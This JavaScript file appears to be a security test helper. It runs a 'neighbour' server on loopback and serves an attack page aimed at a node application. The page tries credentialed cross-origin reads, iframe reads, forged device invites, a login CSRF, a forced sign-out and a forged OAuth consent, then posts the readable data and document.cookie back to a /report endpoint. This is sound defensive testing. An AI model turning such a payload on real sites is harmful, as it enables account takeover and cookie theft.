// An app that listens on another port of the node's own machine, and does with it what it can: it keeps every cookie
// that it receives, sets cookies of the node's names, embeds, opens and fetches the node, and asks it itself.

import { createServer } from "node:http";

/** Listens on a free port of all names of loopback; `page` makes the HTML that it answers with. */
export async function startNeighbour(page) {
  const received = { cookies: [], queries: [], reports: [] };
  const server = createServer((asked, answer) => {
    if (asked.headers.cookie) received.cookies.push(asked.headers.cookie);
    const url = new URL(asked.url, "http://neighbour");
    if (url.pathname === "/cb") received.queries.push(url.searchParams);
    if (url.pathname === "/report") {
      let text = "";
      asked.on("data", (chunk) => (text += chunk));
      asked.on("end", () => {
        received.reports.push(JSON.parse(text));
        answer.writeHead(204).end();
      });
      return;
    }
    const headers = { "content-type": "text/html; charset=utf-8" };
    const html = page(asked, headers);
    answer.writeHead(200, headers).end(html);
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { port: server.address().port, received, stop: () => new Promise((done) => server.close(done)) };
}

/** A page that tries everything against the node at `targets` and reports what it could read. */
export function attack(targets) {
  return `<!doctype html><title>neighbour</title><body><script>
const targets = ${JSON.stringify(targets)};
const paths = ["/api/v1/spaces", "/api/v1/audit", "/api/v1/graphql?query={__typename}", "/admin/", "/oauth/authorize"];
const forms = { "content-type": "application/x-www-form-urlencoded" };
const json = { "content-type": "application/json" };
const readable = [];
const tried = [];
async function attempt(what, work) {
  tried.push(what);
  try { const got = await work(); if (got) readable.push(what + ": " + String(got).slice(0, 200)); } catch {}
}
function framed(url) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    frame.onload = () => {
      try { done(frame.contentDocument && frame.contentDocument.body && frame.contentDocument.body.innerText); }
      catch { done(null); }
    };
    setTimeout(() => done(null), 3000);
    document.body.append(frame);
  });
}
(async () => {
  for (const target of targets) {
    for (const path of paths) {
      await attempt("fetch " + target + path, async () => (await fetch(target + path, { credentials: "include" })).text());
      await attempt("framed " + target + path, () => framed(target + path));
    }
    await attempt("key " + target, async () => (await fetch(target + "/api/v1/spaces", { credentials: "include", headers: { "allod-page-key": "x" } })).text());
    await attempt("invite " + target, async () => (await fetch(target + "/api/v1/devices/invite", { method: "POST", mode: "no-cors", credentials: "include" })).text());
    await attempt("sign in " + target, async () => (await fetch(target + "/api/v1/session", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: JSON.stringify({ user: "mallory", password: "the long password of mallory" }) })).text());
    await attempt("sign out " + target, async () => (await fetch(target + "/api/v1/sessions", { method: "DELETE", credentials: "include" })).text());
    await attempt("consent " + target, async () => (await fetch(target + "/oauth/authorize", { method: "POST", mode: "no-cors", credentials: "include", headers: forms, body: "step=consent&decision=allow" })).text());
  }
  await attempt("storage", () => Object.keys(localStorage).find((name) => name.includes("allod")));
  await fetch("/report", { method: "POST", body: JSON.stringify({ at: location.origin, readable, tried: tried.length, cookies: document.cookie }) });
  document.title = "done";
})();
</script>`;
}
